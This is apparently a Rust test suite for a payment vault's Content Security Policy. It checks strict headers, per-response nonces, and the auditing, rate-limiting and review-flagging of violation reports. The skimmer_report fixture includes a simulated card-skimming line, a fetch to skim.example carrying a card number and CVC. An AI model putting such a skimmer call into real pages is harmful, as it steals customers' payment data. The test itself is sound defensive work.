//! The customer pages are payment pages (re-verification takes a card number) and the console
//! shows revealed card numbers: every page is sent under a strict Content Security Policy (the
//! console's with a fresh nonce per response), and what a browser blocks there is reported,
//! audited without card data or link tokens, limited per minute, and flagged for the daily
//! review (PCI DSS 6.4.3, 11.6.1).

use crate::customer_pages::path_of;
use crate::helpers::{TestApp, spawn_app};
use coffer_vault::audit::review::{ReviewRules, kind};
use coffer_vault::clock::now_millis;
use coffer_vault::customer::csp;
use coffer_vault::store::audit_flags;
use serde_json::{Value, json};

const PAN: &str = "4242424242424242";

async fn reverify_path(app: &TestApp) -> String {
    let pm = app.tokenize_card("cus_csp", PAN).await;
    let res = app
        .post(
            &app.admin_key,
            &format!(
                "/api/v1/payment_methods/{}/reverifications",
                pm["id"].as_str().unwrap()
            ),
            &json!({}),
        )
        .await;
    assert_eq!(res.status(), 201);
    path_of(res.json::<Value>().await.unwrap()["url"].as_str().unwrap())
}

/// The audited violation reports.
async fn violations(app: &TestApp) -> Vec<coffer_vault::store::AuditRow> {
    app.audit()
        .await
        .into_iter()
        .filter(|e| e.action == "page.csp_violation")
        .collect()
}

/// A page's Content Security Policy header and its body.
async fn fetch_page(app: &TestApp, page: &str) -> (String, String) {
    let res = app.client.get(app.url(page)).send().await.unwrap();
    let policy = res
        .headers()
        .get("content-security-policy")
        .unwrap_or_else(|| panic!("{page} has no policy"))
        .to_str()
        .unwrap()
        .to_owned();
    (policy, res.text().await.unwrap())
}

async fn report(app: &TestApp, body: &str) -> reqwest::StatusCode {
    app.client
        .post(app.url("/c/csp-report"))
        .header("content-type", "application/csp-report")
        .body(body.to_owned())
        .send()
        .await
        .unwrap()
        .status()
}

fn skimmer_report(path: &str) -> String {
    json!({ "csp-report": {
        "document-uri": format!("https://vault.example{path}?intent=replace"),
        "effective-directive": "connect-src",
        "violated-directive": "connect-src 'self'",
        "blocked-uri": format!("https://skim.example/collect?n={PAN}&cvc=123"),
        "script-sample": format!("fetch('https://skim.example/collect?n={PAN}')"),
        "original-policy": csp::POLICY,
    } })
    .to_string()
}

#[tokio::test]
async fn every_customer_page_is_sent_under_a_strict_policy() {
    let app = spawn_app().await;
    let path = reverify_path(&app).await;
    let pages = [
        path.clone(),
        format!("{path}?intent=replace"),
        "/c/reverify/not-a-token".to_owned(),
        "/c/customer.css".to_owned(),
        "/c/passkey.js".to_owned(),
    ];
    for page in pages {
        let (policy, body) = fetch_page(&app, &page).await;
        assert_eq!(policy, csp::POLICY, "{page}");
        // What the policy forbids, the pages do not use: no inline script or style.
        assert!(
            !body.contains("<script>") && !body.contains("style="),
            "{page}"
        );
    }
    for directive in [
        "default-src 'none'",
        "script-src 'self'",
        "form-action 'self'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
        "report-uri /c/csp-report",
    ] {
        assert!(csp::POLICY.contains(directive), "{directive}");
    }
    assert!(!csp::POLICY.contains("unsafe"));
}

#[tokio::test]
async fn a_blocked_skimmer_is_audited_without_card_data_and_flagged_for_review() {
    let app = spawn_app().await;
    let path = reverify_path(&app).await;
    let token = path.rsplit('/').next().unwrap().to_owned();
    assert_eq!(report(&app, &skimmer_report(&path)).await, 204);

    let rows = violations(&app).await;
    assert_eq!(rows.len(), 1);
    let row = &rows[0];
    assert_eq!(row.outcome, "denied");
    assert_eq!(row.actor_type, "anonymous");
    assert_eq!(row.resource_id.as_deref(), Some("/c/reverify"));
    let detail: Value = serde_json::from_str(row.detail.as_deref().unwrap()).unwrap();
    assert_eq!(detail["directive"], "connect-src");
    assert_eq!(detail["blocked"], "https://skim.example");
    let everything = format!("{:?}", app.audit().await);
    assert!(!everything.contains(PAN) && !everything.contains("424242"));
    assert!(
        !everything.contains(&token),
        "the link token is a bearer secret"
    );

    // Not a report: nothing is recorded, and the sender learns nothing.
    assert_eq!(report(&app, "{\"hello\": 1}").await, 204);
    let not_a_page = skimmer_report("/Not%20A/page");
    assert_eq!(report(&app, &not_a_page).await, 204);
    let recorded = app
        .count("SELECT COUNT(*) FROM audit_events WHERE action = 'page.csp_violation'")
        .await;
    assert_eq!(recorded, 1);

    app.vault
        .review_day(now_millis(), &ReviewRules::default())
        .await
        .unwrap();
    let mut conn = app.vault.store().reader().acquire().await.unwrap();
    let flags = audit_flags::list(&mut conn, false, 100).await.unwrap();
    let flag = flags
        .iter()
        .find(|f| f.kind == kind::BLOCKED_PAGE_CONTENT)
        .expect("a flag for the reviewer");
    assert_eq!(flag.subject, "/c/reverify");
    assert_eq!(flag.event_count, 1);
}

/// A report sent through the trusted proxy on behalf of `address`.
async fn report_from(app: &TestApp, address: &str, body: &str) -> reqwest::StatusCode {
    app.client
        .post(app.url("/c/csp-report"))
        .header("content-type", "application/csp-report")
        .header("x-forwarded-for", address)
        .body(body.to_owned())
        .send()
        .await
        .unwrap()
        .status()
}

fn recorded_for(events: &[coffer_vault::store::AuditRow], page: &str) -> usize {
    events
        .iter()
        .filter(|e| e.action == "page.csp_violation" && e.resource_id.as_deref() == Some(page))
        .count()
}

/// The review's item 6 (report budgets), performed: a flood of made-up reports, first from one
/// address, then from many, meant to use up the budget so a skimmer's real reports on the
/// payment page go unrecorded. Each address and each page has its own budget now, and the
/// flood itself is on the record. (The test's requests come through a trusted proxy, which
/// also shows the audit takes the client address from it.)
#[tokio::test]
async fn a_flood_of_reports_cannot_hide_a_skimmers_report() {
    let app = crate::helpers::spawn_configured(|c| {
        c.guards.trusted_proxies = vec![coffer_vault::net::IpNet::parse("127.0.0.1").unwrap()];
    })
    .await;
    let console = skimmer_report("/console/search");
    for _ in 0..40 {
        assert_eq!(report_from(&app, "198.51.100.1", &console).await, 204);
    }
    let audit = app.audit().await;
    let from_one = recorded_for(&audit, "/console");
    assert!((1..=6).contains(&from_one), "{from_one}");
    assert!(
        audit
            .iter()
            .filter(|e| e.action == "page.csp_violation")
            .all(|e| e.origin_ip.as_deref() == Some("198.51.100.1"))
    );
    for i in 0..60 {
        let address = format!("203.0.113.{i}");
        assert_eq!(report_from(&app, &address, &console).await, 204);
    }
    let flooded = recorded_for(&app.audit().await, "/console");
    assert!(flooded <= 20 + 6, "{flooded}");
    // Made-up pages share one budget, and made-up payment pages are no pages of ours.
    for (n, page) in ["/aaa", "/bbb", "/ccc", "/ddd", "/c/nonsense"]
        .iter()
        .enumerate()
    {
        for i in 0..25 {
            let address = format!("192.0.{n}.{i}");
            assert_eq!(
                report_from(&app, &address, &skimmer_report(page)).await,
                204
            );
        }
    }
    let made_up = app
        .audit()
        .await
        .iter()
        .filter(|e| {
            e.action == "page.csp_violation" && e.resource_id.as_deref() != Some("/console")
        })
        .count();
    assert!(made_up <= 60, "{made_up}");
    // The skimmer's report on the payment page still gets through.
    let payment = skimmer_report("/c/reverify/abc");
    assert_eq!(report_from(&app, "192.0.9.77", &payment).await, 204);
    let audit = app.audit().await;
    assert_eq!(recorded_for(&audit, "/c/reverify"), 1);
    assert!(
        audit
            .iter()
            .any(|e| e.action == "page.csp_reports_dropped" && e.outcome == "denied")
    );
    // Bigger than any real report: refused before it is read.
    let huge = format!(
        "{{\"csp-report\": {{\"blocked-uri\": \"{}\"}}}}",
        "x".repeat(9_000)
    );
    assert_eq!(report(&app, &huge).await, 413);
}

/// The nonce a console policy allows.
fn nonce_of(policy: &str) -> String {
    policy
        .split("'nonce-")
        .nth(1)
        .and_then(|rest| rest.split('\'').next())
        .unwrap_or_default()
        .to_owned()
}

#[tokio::test]
async fn console_pages_allow_only_their_own_scripts_with_a_fresh_nonce() {
    let app = spawn_app().await;
    let mut seen = Vec::new();
    for page in ["/login", "/login", "/console", "/no-such-page"] {
        let (policy, body) = fetch_page(&app, page).await;
        assert_eq!(
            policy,
            coffer_app::console_policy(&nonce_of(&policy), false),
            "{page}"
        );
        assert!(!policy.contains("'unsafe-inline'") && !policy.contains("'unsafe-eval'"));
        assert!(policy.contains(&format!("report-uri {}", csp::REPORT_PATH)));
        let nonce = nonce_of(&policy);
        assert!(nonce.len() >= 16, "{page}: {nonce}");
        // Every script the page carries has this response's nonce, so the browser runs it.
        let scripts = body.matches("<script").count();
        assert!(scripts > 0, "{page} hydrates");
        assert_eq!(
            body.matches(&format!("nonce=\"{nonce}\"")).count(),
            scripts,
            "{page}"
        );
        seen.push(nonce);
    }
    seen.sort();
    seen.dedup();
    assert_eq!(seen.len(), 4, "one nonce per response");

    // A console page's report is kept under its section.
    let body = json!({ "csp-report": {
        "document-uri": "https://vault.example/console/methods/pm_123",
        "effective-directive": "script-src-elem",
        "blocked-uri": "https://cdn.evil.example/x.js",
    } });
    assert_eq!(report(&app, &body.to_string()).await, 204);
    let rows = violations(&app).await;
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].resource_id.as_deref(), Some("/console"));
}
